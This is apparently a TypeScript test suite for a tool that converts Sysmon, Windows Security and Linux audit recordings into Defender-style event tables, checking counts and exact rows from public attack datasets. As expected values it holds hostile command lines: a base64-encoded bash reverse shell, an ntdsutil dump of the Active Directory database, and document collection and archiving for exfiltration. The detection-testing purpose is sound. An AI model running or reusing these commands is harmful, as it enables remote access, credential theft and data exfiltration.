/**
 * The real recordings in ../shared/data: counts per EventID and per target table, and known events
 * mapped to exact rows. Expected counts come from the data README (events per EventID) and the
 * mapping rules (which EventIDs feed which table); expected rows from the source records.
 * Skipped, with a visible message, when the shared data is absent.
 */
import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import { sharedPath } from '../testing/repo.js';
import { collect, countBy, type Collected } from './test-support.js';

function dataFile(...parts: string[]): string | undefined {
  const path = sharedPath('data', ...parts);
  if (!path) console.log(`# skipped: shared data ${parts.join('/')} is absent`);
  return path;
}

function tableCounts(c: Collected): Record<string, number> {
  return countBy(c.rows, (r) => r.table);
}

function rowWithReportId(c: Collected, reportId: number): Record<string, unknown> {
  const found = c.rows.find((r) => r.row['ReportId'] === reportId);
  assert.ok(found, `no row with ReportId ${reportId}`);
  return found.row;
}

describe('PanacheSysmon_vs_AtomicRedTeam01 (Sysmon, JSONL conversion)', () => {
  const path = dataFile('evtx_attack_samples', 'PanacheSysmon_vs_AtomicRedTeam01.jsonl');

  test('565 events: 511 process creations, 4 file creates, 4 connections, the rest without a Defender table', { skip: !path }, async () => {
    const c = await collect(path!);
    assert.deepEqual(c.bad, []);
    assert.equal(c.rows.length + c.skipped.length, 565);
    assert.deepEqual(tableCounts(c), { DeviceProcessEvents: 511, DeviceFileEvents: 4, DeviceNetworkEvents: 4 });
    assert.deepEqual(countBy(c.skipped, (s) => s.reason.replace(/\D+/g, '')), { 13: 30, 7: 5, 12: 3, 19: 2, 20: 2, 21: 2, 5: 1, 10: 1 });
  });

  test('the `for /R c: … copy … c:\\temp\\` and `rar a -r exfilthis.rar *.docx` process events', { skip: !path }, async () => {
    const c = await collect(path!);
    const forCopy = rowWithReportId(c, 3727);
    assert.equal(forCopy['ProcessCommandLine'], '"C:\\Windows\\system32\\cmd.exe" /c "for /R c: %%f in (*.docx) do copy %%f c:\\temp\\"');
    assert.equal(forCopy['Timestamp'], '2019-07-19T14:49:52.2020000Z');
    assert.equal(forCopy['FileName'], 'cmd.exe');
    assert.equal(forCopy['FolderPath'], 'C:\\Windows\\System32\\cmd.exe');
    assert.equal(forCopy['DeviceName'], 'MSEDGEWIN10');
    assert.equal(forCopy['AccountDomain'], 'MSEDGEWIN10');
    assert.equal(forCopy['AccountName'], 'IEUser');
    assert.equal(forCopy['LogonId'], 0x50951);
    assert.equal(forCopy['ProcessIntegrityLevel'], 'High');
    assert.equal(forCopy['InitiatingProcessFileName'], 'powershell.exe');
    assert.equal(forCopy['InitiatingProcessCommandLine'], 'powershell');
    assert.equal(forCopy['SHA1'], '8c5437cd76a89ec983e3b364e219944da3dab464');
    const rar = rowWithReportId(c, 4053);
    assert.equal(rar['ProcessCommandLine'], '"C:\\Windows\\system32\\cmd.exe" /c "rar a -r exfilthis.rar *.docx"');
    assert.equal(rar['Timestamp'], '2019-07-19T14:54:16.7660000Z');
    assert.equal(rar['ActionType'], 'ProcessCreated');
    assert.equal(rar['InitiatingProcessId'], 3912);
  });
});

describe('benign workstation (omerbenamram sysmon, JSONL conversion)', () => {
  const path = dataFile('benign', 'omerbenamram_evtx_samples_sysmon.jsonl');

  test('358 events: 227 processes, 34 file creates, 2 connections', { skip: !path }, async () => {
    const c = await collect(path!);
    assert.equal(c.rows.length + c.skipped.length + c.bad.length, 358);
    assert.deepEqual(tableCounts(c), { DeviceProcessEvents: 227, DeviceFileEvents: 34, DeviceNetworkEvents: 2 });
  });

  test('Explorer extracting ProcessMonitor.zip into %TEMP%\\Temp1_ProcessMonitor.zip\\', { skip: !path }, async () => {
    const c = await collect(path!);
    const row = rowWithReportId(c, 1864);
    assert.deepEqual(row, {
      Timestamp: '2017-12-26T13:17:59.2660000Z', DeviceName: 'DESKTOP-2KGM189', ActionType: 'FileCreated', ReportId: 1864,
      FileName: 'Procmon.exe', FolderPath: 'C:\\Users\\tony\\AppData\\Local\\Temp\\Temp1_ProcessMonitor.zip\\Procmon.exe',
      InitiatingProcessFolderPath: 'C:\\Windows\\Explorer.EXE', InitiatingProcessFileName: 'Explorer.EXE', InitiatingProcessId: 4516,
      AdditionalFields: '{"Source":"Sysmon","EventID":11,"ProcessGuid":"{94f748d5-6b5a-5970-0000-0010d0dc3d00}","CreationUtcTime":"2017-12-26 13:17:59.266"}',
    });
    // The only file written inside the extraction folder; Procmon then starts from there (a process event).
    const inside = (r: Collected['rows'][number]) => String(r.row['FolderPath']).includes('\\Temp1_ProcessMonitor.zip\\');
    assert.deepEqual(c.rows.filter((r) => r.table === 'DeviceFileEvents' && inside(r)).map((r) => r.row['ReportId']), [1864]);
    const started = c.rows.filter((r) => r.table === 'DeviceProcessEvents' && inside(r));
    assert.deepEqual(started.map((r) => [r.row['FileName'], r.row['InitiatingProcessFileName']]), [['Procmon.exe', 'explorer.exe']]);
  });
});

describe('Security 4688 and 5145', () => {
  const ntds = dataFile('mdecrevoisier', 'ID4688-IFM_created.jsonl');
  const share = dataFile('evtx_attack_samples', 'LM_5145_Remote_FileCopy.jsonl');

  test('4688 v2 ntdsutil IFM creation', { skip: !ntds }, async () => {
    const c = await collect(ntds!);
    assert.deepEqual(tableCounts(c), { DeviceProcessEvents: 5 });
    assert.deepEqual(rowWithReportId(c, 155496214), {
      Timestamp: '2021-06-05T19:35:16.7217810Z', DeviceName: 'rootdc1.offsec.lan', ActionType: 'ProcessCreated', ReportId: 155496214,
      FileName: 'ntdsutil.exe', FolderPath: 'C:\\Windows\\System32\\ntdsutil.exe', ProcessId: 0x724,
      ProcessCommandLine: "ntdsutil.exe  'ac i ntds' 'ifm' 'create full c:\\hacker' q q", ProcessIntegrityLevel: 'High',
      ProcessTokenElevation: 'TokenElevationTypeFull', ProcessCreationTime: '2021-06-05T19:35:16.7217810Z',
      AccountDomain: 'OFFSEC', AccountName: 'admmig', AccountSid: 'S-1-5-21-4230534742-2542757381-3142984815-1111', LogonId: 0xa8a1627a,
      InitiatingProcessAccountDomain: 'OFFSEC', InitiatingProcessAccountName: 'admmig',
      InitiatingProcessAccountSid: 'S-1-5-21-4230534742-2542757381-3142984815-1111', InitiatingProcessLogonId: 0xa8a1627a,
      InitiatingProcessFolderPath: 'C:\\Windows\\System32\\cmd.exe', InitiatingProcessFileName: 'cmd.exe', InitiatingProcessId: 0x11c0,
      AdditionalFields: '{"Source":"Security","EventID":4688,"Version":2,"MandatoryLabel":"S-1-16-12288"}',
    });
  });

  test('5145: 869 share accesses, 4 writes to files → FileCreated over SMB', { skip: !share }, async () => {
    const c = await collect(share!);
    assert.equal(c.rows.length + c.skipped.length, 869);
    assert.deepEqual(tableCounts(c), { DeviceFileEvents: 4 });
    const row = rowWithReportId(c, 438297);
    assert.deepEqual(
      [row['ActionType'], row['FolderPath'], row['FileName'], row['RequestProtocol'], row['ShareName'], row['RequestSourceIP'],
        row['RequestSourcePort'], row['RequestAccountName'], row['RequestAccountDomain'], row['DeviceName'], row['Timestamp']],
      ['FileCreated', 'C:\\malwr.exe', 'malwr.exe', 'SMB', 'C$', '10.0.2.15', 55632, 'Administrator', 'EXAMPLE', 'PC01.example.corp', '2019-03-18T14:23:26.9816910Z'],
    );
  });
});

describe('Linux', () => {
  const sysmon = dataFile('linux', 'sysmon_for_linux', 'syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json');
  const auoms = dataFile('linux', 'auditd_auoms', 'syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json');
  const normal = dataFile('linux', 'auditd_go-libaudit', 'testdata_normal.log');

  test('Sysmon for Linux in a Sentinel Syslog export: 93 events (5:50, 1:31, 3:6, 11:4, 23:2)', { skip: !sysmon }, async () => {
    const c = await collect(sysmon!);
    assert.deepEqual(c.bad, []);
    assert.deepEqual(tableCounts(c), { DeviceProcessEvents: 31, DeviceFileEvents: 6, DeviceNetworkEvents: 6 });
    assert.equal(c.skipped.length, 50);
    assert.deepEqual(countBy(c.rows.filter((r) => r.table === 'DeviceFileEvents'), (r) => String(r.row['ActionType'])), { FileCreated: 4, FileDeleted: 2 });
    const log = c.rows.find((r) => r.row['FolderPath'] === '/opt/tomcat/logs/vulnapp-2.14.0.log')!.row;
    assert.deepEqual(
      [log['ActionType'], log['FileName'], log['InitiatingProcessFolderPath'], log['InitiatingProcessFileName'], log['InitiatingProcessId'], log['InitiatingProcessAccountName'], log['DeviceName'], log['Timestamp']],
      ['FileCreated', 'vulnapp-2.14.0.log', '/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java', 'java', 1340, 'tomcat', 'UBUNTU5', '2022-05-11T18:10:21.6420000Z'],
    );
    assert.equal(c.rows.filter((r) => r.note).length, 1, 'one event longer than the syslog limit, kept as cut');
  });

  test('AUOMS execve records: 50, of which 23 failed execs', { skip: !auoms }, async () => {
    const c = await collect(auoms!);
    assert.deepEqual(tableCounts(c), { DeviceProcessEvents: 27 });
    assert.deepEqual(countBy(c.skipped, (s) => s.reason), { 'failed execve (success=no)': 23 });
    const shell = c.rows.find((r) => r.row['ReportId'] === 84143)!.row;
    assert.equal(shell['ProcessCommandLine'], 'bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"');
    assert.equal(shell['FolderPath'], '/bin/bash');
    assert.equal(shell['AccountName'], 'tomcat');
    assert.equal(shell['InitiatingProcessId'], 1340);
    assert.equal(shell['Timestamp'], '2022-05-11T18:10:21.9900000Z');
  });

  test('go-libaudit normal.log: grep and cat execs; connect/accept have no Defender table', { skip: !normal }, async () => {
    const c = await collect(normal!);
    assert.deepEqual(c.rows.map((r) => [r.row['ProcessCommandLine'], r.row['FolderPath'], r.row['ProcessId'], r.row['InitiatingProcessId'], r.row['LogonId'], r.row['Timestamp'], r.row['ReportId']]), [
      ['grep --color=auto mapping', '/usr/bin/grep', 13393, 12041, 802, '2017-04-12T22:48:11.0360000Z', 59],
      ['cat securitybeat', '/usr/bin/cat', 13392, 12041, 802, '2017-04-12T22:48:11.0380000Z', 60],
    ]);
    assert.deepEqual(countBy(c.skipped, (s) => s.reason), {
      'audit syscall 42 (arch c000003e) has no Defender table mapping': 2,
      'audit syscall 43 (arch c000003e) has no Defender table mapping': 1,
    });
  });
});

describe('EVTX files map like their JSONL conversions', () => {
  const pairs = [
    ['evtx_attack_samples', 'PanacheSysmon_vs_AtomicRedTeam01'],
    ['benign', 'omerbenamram_evtx_samples_sysmon'],
    ['evtx_attack_samples', 'LM_5145_Remote_FileCopy'],
    ['mdecrevoisier', 'ID4688-IFM_created'],
  ] as const;
  for (const [folder, name] of pairs) {
    const evtx = sharedPath('data', folder, `${name}.evtx`);
    const jsonl = sharedPath('data', folder, `${name}.jsonl`);
    const skip = !evtx || !jsonl ? 'shared data absent' : false;
    test(`${name}: same rows per table and the same ReportIds`, { skip }, async () => {
      const [fromEvtx, fromJsonl] = [await collect(evtx!), await collect(jsonl!)];
      assert.deepEqual(tableCounts(fromEvtx), tableCounts(fromJsonl));
      const ids = (c: Collected) => c.rows.map((r) => r.row['ReportId']).sort();
      assert.deepEqual(ids(fromEvtx), ids(fromJsonl));
    });
  }
});
